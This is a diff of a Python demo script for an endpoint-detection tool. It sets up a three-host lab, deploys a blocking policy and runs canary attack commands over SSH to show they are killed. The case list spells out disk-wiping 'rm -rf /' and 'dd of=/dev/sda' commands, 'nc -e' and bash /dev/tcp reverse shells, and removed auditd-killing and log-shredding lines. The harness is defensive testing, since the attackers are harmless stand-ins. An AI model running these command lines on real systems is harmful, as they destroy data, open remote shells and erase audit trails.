@@ -1,19 +1,22 @@
 #!/usr/bin/env python3
-"""`make demo`: the agent on this machine, scoped to a demo cgroup; canary attacks are blocked,
-harmless commands run, and the events are printed.
+"""`make demo`: a 3-host lab fleet on this machine, the default policy deployed to it, canary
+attacks blocked inside the hosts over SSH, harmless look-alikes run, then the central report.
+
+    edrfleet lab up --hosts 3      network namespaces, each with its own sshd and cgroup
+    edrfleet deploy INVENTORY      agent + each host's policy (default + lab-canary rule)
+    (attacks over SSH)             killed in the kernel before they run
+    edrfleet report INVENTORY      events pulled from every host into one SQLite store
+    edrfleet lab down              every trace removed
 
 Safety: every "attack" is harmless if blocking failed.  The rm canary deletes only its own
 /tmp/edrfleet-canary-* directory; every other attacking program is a copy of /bin/true under
-the attacked program's name (nc, dd, bash …), so even unblocked it does nothing.  Only
-processes in the demo cgroup are judged; the agent is stopped and the cgroup removed at the end.
+the attacked program's name (dd, nc, bash …), so even unblocked it does nothing.  The agents
+judge only the processes in their lab host's cgroup.
 """
 
 from __future__ import annotations
 
-import json
-import os
 import shutil
-import signal
 import subprocess
 import sys
 import tempfile
@@ -26,126 +29,94 @@ from rich.table import Table
 REPO = Path(__file__).resolve().parents[1]
 sys.path.insert(0, str(REPO))
 
-from edrfleet.agent.run import cgroup2_root  # noqa: E402
-from edrfleet.fleet.lab import LAB_CANARY_RULE  # noqa: E402
-from edrfleet.fleet.render import render_policy  # noqa: E402
+from edrfleet.fleet.inventory import load_inventory  # noqa: E402
+from edrfleet.fleet.transport import Transport  # noqa: E402
 
-CGROUP = "/edrfleet-demo"
+WORK = REPO / ".edrfleet" / "demo"
+LAB = WORK / "lab"
+INVENTORY = LAB / "inventory.yml"
 console = Console()
 
 
-def main() -> int:
-    work = Path(tempfile.mkdtemp(prefix="edrfleet-demo-"))
-    cg = cgroup2_root() / CGROUP.lstrip("/")
-    cg.mkdir(exist_ok=True)
-    spool = REPO / ".edrfleet" / "demo" / "spool"
-    shutil.rmtree(spool, ignore_errors=True)
-    policy = work / "policy.yaml"
-    policy.write_text(render_policy({"edrfleet_scope_cgroups": [CGROUP],
-                                     "edrfleet_extra_rules": [LAB_CANARY_RULE]}))
-    agent = subprocess.Popen(
-        [sys.executable, "-m", "edrfleet.cli.main", "agent", "run", "--policy", str(policy),
-         "--spool", str(spool), "--host-name", "demo"],
-        cwd=REPO,
-    )
-    try:
-        status = wait_enforcing(spool, agent)
-        console.print(
-            f"[bold]agent {status['state']}[/bold]: {status['rules']} rules, backend "
-            f"{status['backend']}, policy {status['policy_sha256'][:12]}, up in "
-            f"{status['start_seconds']} s, scoped to cgroup {CGROUP}"
-        )
-        run_cases(work, cg)
-        time.sleep(0.5)
-        print_events(spool)
-    finally:
-        agent.send_signal(signal.SIGTERM)
-        agent.wait(timeout=20)
-        for _ in range(50):
-            try:
-                cg.rmdir()
-                break
-            except OSError:
-                time.sleep(0.1)
-        shutil.rmtree(work, ignore_errors=True)
-    return 0
+def edrfleet(*args: str) -> float:
+    """Run one edrfleet command as a user would, showing it; returns its wall time."""
+    console.print(f"\n[bold cyan]$ edrfleet {' '.join(args)}[/bold cyan]")
+    t0 = time.monotonic()
+    subprocess.run([sys.executable, "-m", "edrfleet.cli.main", *args], cwd=REPO, check=True)
+    return time.monotonic() - t0
 
 
-def wait_enforcing(spool: Path, agent: subprocess.Popen) -> dict:
-    deadline = time.monotonic() + 60
-    while time.monotonic() < deadline:
-        if agent.poll() is not None:
-            raise SystemExit(f"agent exited with {agent.returncode}")
-        try:
-            st = json.loads((spool / "status.json").read_text())
-            if st.get("state") in ("enforcing", "monitoring"):
-                return st
-        except (FileNotFoundError, json.JSONDecodeError):
-            pass
-        time.sleep(0.1)
-    raise SystemExit("agent did not reach enforcing within 60 s")
-
-
-def run_cases(work: Path, cg: Path) -> None:
-    bindir = work / "bin"
-    bindir.mkdir()
-
+def cases(bindir: Path, canary: Path, scratch: Path) -> list[tuple[str, str, list[str]]]:
     def standin(name: str) -> str:
         path = bindir / name
-        shutil.copy2("/bin/true", path)
+        if not path.exists():
+            shutil.copy2("/bin/true", path)
         return str(path)
 
-    canary = Path(tempfile.mkdtemp(prefix="edrfleet-canary-", dir="/tmp"))
-    (canary / "precious").write_text("still here\n")
-    scratch = Path(tempfile.mkdtemp(prefix="edrfleet-scratch-", dir="/tmp"))
-    cases = [
+    return [
         ("attack", f"rm -rf {canary}", ["rm", "-rf", str(canary)]),
         ("attack", "rm -rf --no-preserve-root /",
          [standin("rm"), "-rf", "--no-preserve-root", "/"]),
         ("attack", "dd if=/dev/zero of=/dev/sda", [standin("dd"), "if=/dev/zero", "of=/dev/sda"]),
-        ("attack", "nc -e /bin/sh 127.0.0.1 4444",
-         [standin("nc"), "-e", "/bin/sh", "127.0.0.1", "4444"]),
-        ("attack", "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'",
-         [standin("bash"), "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"]),
-        ("attack", "pkill -9 auditd", [standin("pkill"), "-9", "auditd"]),
-        ("attack", "shred -u /var/log/auth.log", [standin("shred"), "-u", "/var/log/auth.log"]),
+        ("attack", "nc -e /bin/sh 10.0.0.1 4444",
+         [standin("nc"), "-e", "/bin/sh", "10.0.0.1", "4444"]),
+        ("attack", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
+         [standin("bash"), "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]),
         ("harmless", f"rm -rf {scratch}", ["rm", "-rf", str(scratch)]),
-        ("harmless", "ls /tmp", ["ls", "/tmp"]),
         ("harmless", "dd if=/dev/zero of=/dev/null count=1",
          ["dd", "if=/dev/zero", "of=/dev/null", "count=1"]),
-        ("harmless", "nc -zv 127.0.0.1 22", [standin("nc"), "-zv", "127.0.0.1", "22"]),
+        ("harmless", "ls /tmp", ["ls", "/tmp"]),
     ]
-    table = Table(title="commands run inside the demo cgroup")
-    for col in ("kind", "command", "result"):
+
+
+def attack(bindir: Path) -> bool:
+    """Run the cases inside every lab host over SSH; True when every canary survived."""
+    inv = load_inventory(INVENTORY)
+    table = Table(title="commands run inside the lab hosts over SSH")
+    for col in ("host", "kind", "command", "result"):
         table.add_column(col)
-
-    def enter() -> None:
-        (cg / "cgroup.procs").write_text(str(os.getpid()))
-
-    for kind, shown, argv in cases:
-        res = subprocess.run(argv, preexec_fn=enter, capture_output=True, timeout=30)
-        if res.returncode == -signal.SIGKILL:
-            result = "[red]killed before it ran[/red]"
-        else:
-            result = f"[green]ran[/green] (exit {res.returncode})"
-        table.add_row(kind, shown, result)
+    all_safe = True
+    for host in inv.hosts.values():
+        canary = Path(tempfile.mkdtemp(prefix="edrfleet-canary-", dir="/tmp"))
+        (canary / "precious").write_text("still here\n")
+        scratch = Path(tempfile.mkdtemp(prefix="edrfleet-scratch-", dir="/tmp"))
+        with Transport(host, INVENTORY.parent) as t:
+            for kind, shown, argv in cases(bindir, canary, scratch):
+                # a shell that waits for the command, so a kill shows as status 137; -1 is
+                # the SSH session's own shell killed (its command line carries the attack)
+                r = t.run(["sh", "-c", '"$@"; exit $?', "sh", *argv], check=False)
+                result = ("[red]killed before it ran[/red]" if r.rc in (137, -1)
+                          else f"[green]ran[/green] (exit {r.rc})")
+                table.add_row(host.name, kind, shown, result)
+        survived = (canary / "precious").exists()
+        all_safe &= survived
+        table.add_row(host.name, "", f"canary {canary}",
+                      "[green]survived[/green]" if survived else "[red]GONE[/red]")
+        shutil.rmtree(canary, ignore_errors=True)
+        shutil.rmtree(scratch, ignore_errors=True)
     console.print(table)
-    alive = (canary / "precious").exists()
-    console.print(f"canary {canary}: {'[green]survived[/green]' if alive else '[red]GONE[/red]'}")
-    shutil.rmtree(canary, ignore_errors=True)
-    shutil.rmtree(scratch, ignore_errors=True)
+    return all_safe
 
 
-def print_events(spool: Path) -> None:
-    lines = (spool / "events.jsonl").read_text().splitlines() if spool.exists() else []
-    table = Table(title=f"events in {spool / 'events.jsonl'}")
-    for col in ("action", "rule", "severity", "command line"):
-        table.add_column(col)
-    for line in lines:
-        ev = json.loads(line)
-        table.add_row(ev["event.action"], ev["rule.id"], ev["rule.severity"],
-                      ev["process.command_line"])
-    console.print(table)
+def main() -> int:
+    t0 = time.monotonic()
+    shutil.rmtree(WORK, ignore_errors=True)
+    bindir = Path(tempfile.mkdtemp(prefix="edrfleet-demo-bin-", dir="/tmp"))
+    times: dict[str, float] = {}
+    try:
+        times["lab up"] = edrfleet("lab", "up", "--hosts", "3", "--dir", str(LAB))
+        times["deploy"] = edrfleet("deploy", str(INVENTORY))
+        times["rerun"] = edrfleet("deploy", str(INVENTORY))
+        edrfleet("status", str(INVENTORY))
+        safe = attack(bindir)
+        time.sleep(1.0)  # the agents write non-kill events at their next poll
+        times["report"] = edrfleet("report", str(INVENTORY), "--db", str(WORK / "report.db"))
+    finally:
+        edrfleet("lab", "down", "--dir", str(LAB))
+        shutil.rmtree(bindir, ignore_errors=True)
+    figures = ", ".join(f"{k} {v:.1f} s" for k, v in times.items())
+    console.print(f"\n[bold]demo done in {time.monotonic() - t0:.1f} s[/bold] ({figures})")
+    return 0 if safe else 1
 
 
 if __name__ == "__main__":
